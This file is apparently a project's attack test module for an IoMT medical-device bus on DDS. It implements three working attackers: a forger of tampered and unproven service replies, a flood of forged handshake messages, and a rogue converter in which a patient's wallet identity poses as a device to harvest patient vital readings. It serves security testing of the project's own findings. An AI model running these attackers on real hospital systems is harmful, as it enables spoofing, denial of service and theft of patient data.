"""Attackers on the bus, for the attack suite (tests/attacks) and bench/bench_attacks.py.

Each runs as a process of its own on a ward's DDS domain, with iomt's open code and, where
an insider is needed, one certified identity -- the model of the outside security test of
issue 11::

    python tests/attacks/forgers.py replies --domain N \
        --service /ward1/hr_1/data_share=DataShare ...
    python tests/attacks/forgers.py flood --domain N --target /ward1/hr_1/handshake \
        --count 3000 --seconds 10
    python tests/attacks/forgers.py rogue-converter --domain N --keystore K --identity wallet_1 \\
        --victim hr_0 --x 3.0 --y 4.0

Every one prints ``READY`` when its endpoints exist, and ``STATS {json}`` when it stops
(SIGTERM/SIGINT, or the end of a flood; ``replies`` also prints them on SIGUSR1).
``ReplyForger`` is also usable in-process.

* **replies** -- finding 1: for every request it sees on the named services it writes
  ``copies`` replies carrying the request's own header (client id and sequence number, both
  visible in the request): an unproven refusal and a *tampered* reply -- a genuine reply to
  another request, captured from the reply topic, with its status turned into a refusal
  (proof kept) or a byte of its body flipped.
* **flood** -- finding 3: ``count`` handshake message 1s in ``seconds`` at one service,
  from one writer, under forged initiator names; counts the answers by kind.
* **rogue-converter** -- finding 2: a certified identity that is not a capable device (a
  patient's wallet) announces itself as an ECC converter at the victim's position and
  serves ``convert``; counts the orders, and the plaintext readings among them, it got.
"""

from __future__ import annotations

import argparse
import contextlib
import copy
import dataclasses
import json
import os
import signal
import sys
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any

from cyclonedds.sub import DataReader

import iomt.msg as msgs
from iomt.runtime import Context, Executor, Node, qos_profile_services_default
from iomt.runtime._dds import delete_entity, take_raw
from iomt.runtime.naming import service_to_dds

MARK = "forged"


def srv_type(name: str) -> Any:
    return getattr(msgs, name)


class ReplyForger:
    """Forges replies to every request on ``services`` ({fq service name: srv type}).

    Registers as a second server of each service (a server sees every request), answers
    each request at once with ``copies`` forged replies, and reads the reply topic (raw)
    to keep a genuine reply per service for tampering. Cheap on purpose: the forged
    replies are made once per service and sent as they are with each request's header,
    and a reply topic is read only until one genuine reply is in hand -- an attacker on a
    host of its own would not share the ward's cores, here it does.
    """

    def __init__(
        self, node: Node, services: dict[str, Any], copies: int = 2, misaddress: bool = False
    ) -> None:
        self.node = node
        self.copies = copies
        #: address the forged replies to nobody (another client id): the same traffic with
        #: nothing for any client to check -- the bench's measure of what the attack
        #: traffic costs by itself
        self.misaddress = misaddress
        self.counts: Counter[str] = Counter()
        self._refusals: dict[str, Any] = {}
        self._tampered: dict[str, list[Any]] = {}
        self._readers: list[tuple[str, Any, DataReader[Any]]] = []
        self._servers: dict[str, Any] = {}
        ctx: Any = node.context
        for name, srv in services.items():
            self._refusals[name] = self._refusal(srv)
            self._servers[name] = node.create_service(
                srv, name, self._answerer(name), deferred=True
            )
            reply_topic = service_to_dds(name)[1]
            qos = qos_profile_services_default
            reader: DataReader[Any] = DataReader(
                ctx.participant, ctx.topic(reply_topic, srv.ResponseWire, qos), qos=qos.to_dds()
            )
            self._readers.append((name, srv, reader))
        node.create_timer(0.05, self._capture)

    def _capture(self) -> None:
        """One genuine reply per service is enough to tamper with: once it has one, the
        forger stops reading that reply topic (what it reads it pays for, on our cores)."""
        for entry in list(self._readers):
            name, srv, reader = entry
            try:
                samples = take_raw(reader, 4096)  # drained, never deserialized here
            except Exception:
                continue
            for cdr, info in reversed(samples):
                if not info.valid_data or len(cdr) <= 64:
                    continue
                try:
                    response, _guid, _seq = srv.response_from_wire(
                        srv.ResponseWire.deserialize(cdr)
                    )
                except Exception:
                    continue
                if MARK in str(getattr(response, "reason", "")) or not bytes(
                    getattr(response, "proof", b"") or b""
                ):
                    continue  # ours, or unproven
                self._tampered[name] = [self._tamper(response, i) for i in (1, 3)]
                self._readers.remove(entry)
                delete_entity(reader)
                break

    def _answerer(self, name: str) -> Any:
        def answer(_req: Any, responder: Any) -> None:
            server = self._servers[name]
            header = responder.header
            if self.misaddress:
                header = dataclasses.replace(header, client_guid=header.client_guid ^ 0x5A5A)
            for i in range(self.copies):
                tampered = self._tampered.get(name)
                if i % 2 == 0 or not tampered:
                    forged, kind = self._refusals[name], "refusal"
                else:
                    n = self.counts["sent tampered"]
                    forged, kind = tampered[n % len(tampered)], "tampered"  # both kinds, in turn
                try:
                    server.send_response(forged, header)
                    self.counts[f"sent {kind}"] += 1
                    self.counts[name] += 1
                except Exception:
                    self.counts["write failed"] += 1

        return answer

    @staticmethod
    def _refusal(srv: Any) -> Any:
        """The finding's refusal: a plausible status and reason, no proof."""
        r = srv.Response()
        statuses = {
            n: getattr(r, n) for n in dir(r) if n.startswith("STATUS_") and n != "STATUS_OK"
        }
        for wanted in ("STATUS_REFUSED", "STATUS_REMOVED", "STATUS_DENIED"):
            if wanted in statuses:
                r.status = statuses[wanted]
                break
        r.reason = f"invalid-token: {MARK} by an attacker"
        return r

    @staticmethod
    def _tamper(genuine: Any, i: int) -> Any:
        """A genuine reply to another request, altered: status turned into a refusal with
        its proof kept (``i % 4 == 1``), or one byte of its body flipped."""
        t = copy.deepcopy(genuine)
        if i % 4 == 1 and int(t.status) == 0:
            t.status = 1 if not hasattr(t, "STATUS_REFUSED") else t.STATUS_REFUSED
            t.reason = f"{MARK}: status changed"
            return t
        for field in ("body", "message"):
            data = bytearray(getattr(t, field, b"") or b"")
            if data:
                data[len(data) // 2] ^= 0x01
                setattr(t, field, bytes(data))
                return t
        env = getattr(t, "envelope", None)
        if env is not None and bytes(env.ciphertext):
            ct = bytearray(bytes(env.ciphertext))
            ct[0] ^= 0x01
            env.ciphertext = bytes(ct)
            return t
        t.reason = f"{MARK}: {t.reason}"
        return t


# -- processes ------------------------------------------------------------------------


class _Run:
    def __init__(self, domain: int) -> None:
        self.ctx = Context(domain_id=domain)
        self.executor = Executor(self.ctx)
        self.stop = threading.Event()
        signal.signal(signal.SIGTERM, lambda *_: self.stop.set())
        signal.signal(signal.SIGINT, lambda *_: self.stop.set())

    def node(self, name: str, namespace: str = "/attacker") -> Node:
        node = Node(name, context=self.ctx, namespace=namespace)
        self.executor.add_node(node)
        return node

    def spin(self, until: float | None = None) -> None:
        while not self.stop.is_set() and (until is None or time.monotonic() < until):
            self.executor.spin_once(0.05)

    def close(self) -> None:
        self.executor.close()
        self.ctx.shutdown()


def _print(tag: str, doc: dict[str, Any]) -> None:
    print(f"{tag} {json.dumps(doc, sort_keys=True)}", flush=True)


def cmd_replies(args: argparse.Namespace) -> int:
    run = _Run(args.domain)
    node = run.node("forger")
    services = {}
    for spec in args.service:
        name, _, kind = spec.partition("=")
        services[name] = srv_type(kind)
    forger = ReplyForger(node, services, copies=args.copies, misaddress=args.misaddress)
    signal.signal(signal.SIGUSR1, lambda *_: _print("STATS", dict(forger.counts)))
    print("READY", flush=True)
    try:
        run.spin()
    finally:
        _print("STATS", dict(forger.counts))
        run.close()
    return 0


def cmd_flood(args: argparse.Namespace) -> int:
    """``count`` message 1s in ``seconds``, evenly, through ``writers`` clients."""
    run = _Run(args.domain)
    node = run.node("flooder")
    clients = [node.create_client(msgs.SessionHandshake, args.target) for _ in range(args.writers)]
    deadline = time.monotonic() + 20
    while not all(c.service_is_ready() for c in clients) and time.monotonic() < deadline:
        run.executor.spin_once(0.05)
    answers: Counter[str] = Counter()
    futures = []
    print("READY", flush=True)
    start = time.monotonic()
    for n in range(args.count):
        if run.stop.is_set():
            break
        due = start + n * args.seconds / args.count
        while time.monotonic() < due:
            run.executor.spin_once(max(0.0, min(0.01, due - time.monotonic())))
        name = args.name or f"forged_{n}"
        m1 = b"\x01\x01\x01" + os.urandom(8) + os.urandom(32)
        request = msgs.SessionHandshake.Request(initiator_uri=f"iomt://ward1/{name}", message=m1)
        futures.append(clients[n % len(clients)].call_async(request))
        if n == 0:
            print("STARTED", flush=True)
    sent_s = time.monotonic() - start
    run.spin(time.monotonic() + 3.0)  # the last answers
    for f in futures:
        if not f.done():
            answers["unanswered"] += 1
            continue
        resp = f.result(0)
        if int(resp.status) == 0:
            answers["message 2 (did the work)"] += 1
        else:
            answers[str(resp.reason).split(":", 1)[0][:60]] += 1
    _print("STATS", {"sent": len(futures), "seconds": round(sent_s, 2), "answers": answers})
    run.close()
    return 0


def cmd_rogue_converter(args: argparse.Namespace) -> int:
    """A certified identity that is not a capable device poses as one next to the victim."""
    from iomt.core.channels import ChannelTable
    from iomt.core.conversion import ConversionOrder
    from iomt.core.registration import Announcement
    from iomt.crypto.keystore import Keystore
    from iomt.msg import Convert, Registration, SessionHandshake, Vitals
    from iomt.nodes import wire
    from iomt.nodes.cells import cell_of, cell_topic
    from iomt.nodes.device import ANNOUNCE_QOS
    from iomt.nodes.handshaking import handshake_responder
    from iomt.nodes.identity import reply_signer

    ks_dir = Path(args.keystore)
    deadline = time.monotonic() + 60
    ident_dir = ks_dir / "identities" / args.identity
    while not (ident_dir / "identity.json").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.2)  # the keystore is written file by file
    ks = Keystore.open(ks_dir)
    me = ks.identity(args.identity)
    cert = ks.certificate_der(args.identity)
    run = _Run(args.domain)
    node = run.node(args.identity, f"/{args.facility}")
    channels = ChannelTable(me.handshake_identity(), ks.credential_validator())
    node.create_service(
        SessionHandshake,
        "~/handshake",
        handshake_responder(channels.respond, args.identity, reply_signer(me)),
        deferred=True,
    )
    stolen: Counter[str] = Counter()

    def on_convert(req: Any, resp: Any) -> Any:
        order: ConversionOrder = wire.order_from_msg(req.request)
        stolen["orders"] += 1
        if order.link_technique == "none":
            try:
                v = Vitals.deserialize(order.payload)
                stolen["plaintext readings"] += 1
                stolen[f"of {v.patient_id}"] += 1
            except Exception:
                pass
        resp.status = Convert.Response.STATUS_PUBLISHED
        return resp

    node.create_service(Convert, "~/convert", on_convert)
    # as a device announces (transient-local: the hearers' readers are; a volatile writer
    # would not even match them)
    pub = node.create_publisher(
        Registration, cell_topic(cell_of(args.x, args.y, args.radio)), ANNOUNCE_QOS
    )

    def announce() -> None:
        a = Announcement(
            me.uri,
            "ecc",
            ("cpabe", "ecc", "ecc-attr", "sym-aes"),
            args.x,
            args.y,
            args.radio,
            args.period,
            cert,
            (),
            time.time_ns(),
        ).signed_by(me.signer)
        pub.publish(wire.announcement_to_msg(a))
        stolen["announcements"] += 1

    node.create_timer(args.period, announce)
    print("READY", flush=True)
    try:
        run.spin()
    finally:
        _print("STATS", dict(stolen))
        run.close()
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = parser.add_subparsers(dest="command", required=True)
    p = sub.add_parser("replies")
    p.add_argument("--domain", type=int, required=True)
    p.add_argument("--service", action="append", default=[], help="NAME=SrvType")
    p.add_argument("--copies", type=int, default=2)
    p.add_argument("--misaddress", action="store_true", help="reply to no client (a control)")
    p.set_defaults(func=cmd_replies)
    p = sub.add_parser("flood")
    p.add_argument("--domain", type=int, required=True)
    p.add_argument("--target", required=True)
    p.add_argument("--count", type=int, default=3000)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--writers", type=int, default=1)
    p.add_argument("--name", default="", help="claim this initiator name (default: forged_N)")
    p.set_defaults(func=cmd_flood)
    p = sub.add_parser("rogue-converter")
    p.add_argument("--domain", type=int, required=True)
    p.add_argument("--keystore", required=True)
    p.add_argument("--identity", required=True)
    p.add_argument("--facility", default="ward1")
    p.add_argument("--x", type=float, required=True)
    p.add_argument("--y", type=float, required=True)
    p.add_argument("--radio", type=float, default=10.0)
    p.add_argument("--period", type=float, default=0.5)
    p.set_defaults(func=cmd_rogue_converter)
    args = parser.parse_args(argv)
    with contextlib.suppress(BrokenPipeError):
        return int(args.func(args))
    return 0


if __name__ == "__main__":
    sys.exit(main())
